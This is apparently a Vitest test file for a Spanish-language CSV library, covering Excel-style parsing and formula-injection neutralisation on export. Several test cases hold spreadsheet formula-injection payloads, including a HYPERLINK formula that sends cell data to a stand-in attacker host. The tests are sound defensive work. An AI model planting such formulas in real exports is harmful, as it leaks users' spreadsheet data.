import { describe, expect, it } from "vitest";
import { escribirCsv, leerCsv, leerSiNo, neutralizarFormula, normalizarColumna } from "@/lib/csv";

describe("leer un CSV importado", () => {
  it("acepta el CSV de Excel en es-CO: BOM, punto y coma, encabezados con tildes y mayúsculas", () => {
    const lectura = leerCsv(
      "\uFEFFCódigo;Nombre del centro;Genera aprovechamiento\r\n9101; Centro Uno ;Sí\r\n",
      ["codigo", "nombre_del_centro"],
    );
    expect(lectura).toEqual({
      ok: true,
      columnas: ["codigo", "nombre_del_centro", "genera_aprovechamiento"],
      filas: [
        {
          linea: 2,
          valores: { codigo: "9101", nombre_del_centro: "Centro Uno", genera_aprovechamiento: "Sí" },
        },
      ],
    });
  });

  it("acepta comas, comillas con separadores dentro y cuenta las líneas del archivo aunque haya vacías", () => {
    const lectura = leerCsv('codigo,nombre\n1,"Bogotá, D.C."\n\n2,"Dice ""hola"""\n', ["codigo", "nombre"]);
    expect(lectura.ok && lectura.filas).toEqual([
      { linea: 2, valores: { codigo: "1", nombre: "Bogotá, D.C." } },
      { linea: 4, valores: { codigo: "2", nombre: 'Dice "hola"' } },
    ]);
  });

  it.each([
    ["", "El archivo está vacío."],
    ["codigo;nombre\n", "El archivo no tiene filas de datos bajo el encabezado."],
    ["codigo\n1\n", "Faltan columnas en el encabezado: nombre. Columnas esperadas: codigo, nombre."],
  ])("rechaza %j con un mensaje claro", (texto, error) => {
    expect(leerCsv(texto, ["codigo", "nombre"])).toEqual({ ok: false, error });
  });

  it("rechaza filas con más columnas que el encabezado o comillas sin cerrar, diciendo dónde", () => {
    const lectura = leerCsv('codigo;nombre\n1;"sin cerrar\n', ["codigo", "nombre"]);
    expect(lectura.ok).toBe(false);
    expect(!lectura.ok && lectura.error).toMatch(/^El archivo no es un CSV válido cerca de la línea \d+/);
    expect(leerCsv("codigo;nombre\n1;a;b\n", ["codigo", "nombre"]).ok).toBe(false);
  });

  it("normaliza nombres de columna y lee sí/no", () => {
    expect(normalizarColumna("  Código Regional ")).toBe("codigo_regional");
    expect([leerSiNo("Sí"), leerSiNo("NO"), leerSiNo("x"), leerSiNo(""), leerSiNo("tal vez")]).toEqual([
      true,
      false,
      true,
      false,
      null,
    ]);
  });
});

describe("escribir un CSV (exportaciones y plantillas)", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"ver")', `'=HYPERLINK("http://evil.example/?"&A1,"ver")`],
    ["+57 300 1234567", "'+57 300 1234567"],
    ["-2+3", "'-2+3"],
    ["@SUMA(A1:A9)", "'@SUMA(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("una celda que empieza como fórmula (%j) se escribe con apóstrofo: %j", (valor, esperado) => {
    expect(neutralizarFormula(valor)).toBe(esperado);
  });

  it.each(["-5", "-12,5", "3.5", "ACTA-2026-01", "Centro = Norte", "correo@sena.edu.co"])(
    "un número o un texto que no empieza como fórmula queda igual: %j",
    (valor) => {
      expect(neutralizarFormula(valor)).toBe(valor);
    },
  );

  it("escribe BOM, punto y coma y CRLF, comillas donde hace falta y ninguna fórmula viva", () => {
    const texto = escribirCsv([
      ["numero", "nombre", "monto"],
      ['=HYPERLINK("http://evil.example")', 'Dice "hola"; adiós', 1500000n],
      [null, "Línea\nnueva", -3],
    ]);
    expect(texto).toBe(
      "\uFEFFnumero;nombre;monto\r\n" +
        `"'=HYPERLINK(""http://evil.example"")";"Dice ""hola""; adiós";1500000\r\n` +
        ';"Línea\nnueva";-3\r\n',
    );
    const lectura = leerCsv(texto, ["numero"]);
    expect(lectura.ok && lectura.filas[0]?.valores.numero).toBe(`'=HYPERLINK("http://evil.example")`);
  });
});
